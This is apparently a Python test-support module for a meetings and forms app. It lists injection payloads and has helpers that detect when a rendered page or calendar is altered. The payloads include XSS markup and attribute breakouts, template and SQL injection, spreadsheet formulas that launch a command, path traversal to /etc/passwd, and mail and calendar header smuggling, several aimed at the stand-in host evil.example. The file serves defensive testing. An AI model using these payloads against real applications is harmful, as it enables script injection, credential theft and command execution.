"""Texts that somebody might type to get more than text out of a page, a mail or a calendar; and how to see if they did.

Every payload is one line that the app takes as text. `LINES` are those that bring line breaks of some kind.
"""

from collections.abc import Sequence
from itertools import cycle
from typing import Any
from xml.etree.ElementTree import Element

import icalendar

from meetings.domain.form import CHOOSING, QUESTIONS_MAX
from tests import dom

MARK = "zqx"  # is in every payload, so that it can be found on a page

MARKUP = [
    f"<script>alert('{MARK}')</script>",
    f"<ScRiPt src=//evil.example/{MARK}.js></sCrIpT>",
    f"<script>/*{MARK}*/alert(1)//",
    f"<<script>alert('{MARK}');//<</script>",
    f"<scr<script>ipt>alert('{MARK}')</scr</script>ipt>",
    f"<img src=x onerror=alert('{MARK}')>",
    f'<img src="x" onerror="alert(\'{MARK}\')">',
    f"<img/src=x/onerror=alert('{MARK}')>",
    f"<svg onload=alert('{MARK}')>",
    f"<svg><script>alert('{MARK}')</script></svg>",
    f"<svg><animate onbegin=alert('{MARK}') attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{MARK}')>",
    f"<body onload=alert('{MARK}')>",
    f"<iframe src=\"javascript:alert('{MARK}')\"></iframe>",
    f"<iframe srcdoc=\"<script>alert('{MARK}')</script>\"></iframe>",
    f'<object data="data:text/html,{MARK}"></object>',
    f"<embed src=//evil.example/{MARK}>",
    f"<a href=\"javascript:alert('{MARK}')\">click</a>",
    f"<a href=\"&#106;avascript:alert('{MARK}')\">click</a>",
    f"<form action=//evil.example/{MARK}><input name=password></form>",
    f"</form><form action=//evil.example/{MARK}>",
    f"<button formaction=//evil.example/{MARK}>go</button>",
    f'<meta http-equiv=refresh content="0;url=//evil.example/{MARK}">',
    f"<base href=//evil.example/{MARK}/>",
    f"<link rel=stylesheet href=//evil.example/{MARK}.css>",
    f"<style>*{{background:url(//evil.example/{MARK})}}</style>",
    f"<div style=\"background:url('//evil.example/{MARK}')\">",
    f"<details open ontoggle=alert('{MARK}')>",
    f"<input autofocus onfocus=alert('{MARK}')>",
    f"<video><source onerror=alert('{MARK}')></video>",
    f"<marquee onstart=alert('{MARK}')>",
    f"<template><script>alert('{MARK}')</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror=alert('{MARK}')>\">",
    f"<!--{MARK}--><script>alert(1)</script><!--",
    f"<![CDATA[{MARK}]]><script>alert(1)</script>",
    f"<?xml version='1.0'?><{MARK}:x xmlns:{MARK}='http://www.w3.org/1999/xhtml'/>",
    f"<div hx-get=//evil.example/{MARK} hx-trigger=load>",
    f"<div hx-on:load=alert('{MARK}')>",
    f"<div data-drag data-menu id=wizard>{MARK}</div>",
    f"<dl></dl></dd></li></ol></section></main>{MARK}",
]
BREAKING_OUT = [
    f"\"><script>alert('{MARK}')</script>",
    f"'><script>alert('{MARK}')</script>",
    f"\" autofocus onfocus=\"alert('{MARK}')",
    f"' autofocus onfocus='alert('{MARK}')",
    f"x onmouseover=alert('{MARK}') y=",
    f"`\"'><img src=x onerror=alert('{MARK}')>",
    f"</textarea><script>alert('{MARK}')</script>",
    f"</title><script>alert('{MARK}')</script>",
    f"</option></select><script>alert('{MARK}')</script>",
    f"</style><script>alert('{MARK}')</script>",
    f"</script><script>alert('{MARK}')</script>",
    f"--><script>alert('{MARK}')</script>",
    f"javascript:alert('{MARK}')",
    f"data:text/html;base64,{MARK}",
    f"&lt;script&gt;alert('{MARK}')&lt;/script&gt;",
    f"&#60;script&#62;alert('{MARK}')&#60;/script&#62;",
    f"%3Cscript%3Ealert('{MARK}')%3C/script%3E",
    f"\\u003cscript\\u003ealert('{MARK}')",
    f"＜script＞alert('{MARK}')＜/script＞",
    f"+ADw-script+AD4-alert('{MARK}')+ADw-/script+AD4-",
]
OF_OTHER_LANGUAGES = [
    f"{{{{ config }}}} {MARK}",
    f"{{{{ ''.__class__.__mro__ }}}} {MARK}",
    f"{{% for x in config %}}{MARK}{{% endfor %}}",
    f"{{# {MARK} #}}",
    f"${{7*7}} #{{7*7}} <%= 7*7 %> {MARK}",
    f"%(name)s %s %d %%n {MARK}",
    f"{{question}} {{place}} {{0}} {MARK}",
    f"'; DROP TABLE booking; -- {MARK}",
    f"' OR '1'='1' {MARK}",
    f'=HYPERLINK("//evil.example/{MARK}")',
    f"=cmd|'/c calc'!A1 {MARK}",
    f"BEGIN:VALARM TRIGGER:-PT1M END:VALARM {MARK}",
    f";ATTENDEE=mailto:{MARK}@evil.example",
    f"\\nATTENDEE:mailto:{MARK}@evil.example",
    f"{MARK};X-EVIL=1:a,b\\;c\\\\",
    f"Bcc: {MARK}@evil.example",
    f"=?utf-8?q?=0D=0ABcc:_{MARK}@evil.example?=",
    f"../../../etc/passwd {MARK}",
    f"[click](javascript:alert('{MARK}')) **bold** <https://evil.example/{MARK}>",
    f"![x](//evil.example/{MARK}.png)",
]
OF_SCRIPT = [
    f"\u2066\u2069 {MARK} \u200f\u200e",
    f"שלום {MARK} مرحبا",
    f"Z̸̡a̶͝l̷g̸o {MARK}",
    f"👩‍👩‍👧‍👦 {MARK} 🇫🇷",
    f"{MARK}\u200b\u00ad\u2060",
    "A" * 60 + MARK,
]
PAYLOADS = [*MARKUP, *BREAKING_OUT, *OF_OTHER_LANGUAGES, *OF_SCRIPT]
LINES = [
    f"a\nATTENDEE:mailto:{MARK}@evil.example",
    f"a\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:{MARK}",
    f"a\r\n\r\n<script>alert('{MARK}')</script>",
    f"a\u2028X-EVIL:{MARK}\u2029b",
    f"a\x0bX-EVIL:{MARK}\x85b",
    f"a\r\nBcc: {MARK}@evil.example\r\n\r\nbody",
    f"\n.\nMAIL FROM:<{MARK}@evil.example>",
    f"text\n\nEND:VCALENDAR\n{MARK}",
]

BATCHES = [
    PAYLOADS[first : first + QUESTIONS_MAX] for first in range(0, len(PAYLOADS), QUESTIONS_MAX)
]  # a form of each
KINDS = ("line", "text", "select", "radio", "checkboxes")


def questions(texts: Sequence[str]) -> list[dict[str, Any]]:
    """Fields of a form with these texts in all places that have words; of all kinds in turn."""
    return [
        {
            "name": f"q{index}",
            "type": "question",
            "label": words,
            "help": words,
            "kind": kind,
            "options": [words, "Other"] if kind in CHOOSING else [],
            "required": False,
        }
        for index, (words, kind) in enumerate(zip(texts, cycle(KINDS), strict=False))
    ]


Shape = list[tuple[str, tuple[str, ...]]]


def shape(page: str) -> Shape:
    """The elements of a page with the names of their attributes, in order: what no text may change."""
    return [(one.tag, tuple(sorted(one.attrib))) for one in dom.parse(page).iter()]


def dangers(page: str) -> list[str]:
    """What on a page runs, loads or sends something that is not ours: scripts, handlers, strange addresses."""
    return [found for one in dom.parse(page).iter() for found in _dangers_of(one)]


def _dangers_of(one: Element) -> list[str]:
    found = [f"<{one.tag} {name}>" for name in one.attrib if name.lower().startswith(("on", "hx-on"))]
    if one.tag == "script" and not one.get("src", "").startswith(("/static/", "/assets/")):
        found.append("<script> of others")
    if one.tag in {"object", "embed", "base", "marquee", "math"}:
        found.append(f"<{one.tag}>")
    for name in ("href", "src", "action", "formaction", "srcdoc", "hx-get", "hx-post", "style"):
        value = "".join(one.get(name, "").split()).lower()
        if value.startswith(("javascript:", "data:text", "vbscript:")) or "evil.example" in value.partition("?")[0]:
            found.append(f"<{one.tag} {name}={value}>")
    return found


def calendar_shape(content: bytes) -> list[str]:
    """The lines of a calendar by their names and parameters: what no text may change."""
    icalendar.Calendar.from_ical(content)
    lines = content.decode().replace("\r\n ", "").split("\r\n")
    assert all(line.isprintable() or "\u200d" in line or not line.isascii() for line in lines)
    return [line.partition(":")[0] for line in lines]
